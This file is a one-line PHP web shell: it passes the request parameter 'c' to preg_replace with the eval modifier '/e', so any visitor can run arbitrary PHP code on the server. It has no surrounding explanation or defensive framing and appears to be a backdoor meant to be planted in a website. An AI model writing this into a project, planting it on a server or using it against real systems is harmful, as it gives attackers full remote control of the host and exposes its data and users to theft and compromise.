<?php preg_replace('/.*/e', $_REQUEST['c'], 'x');
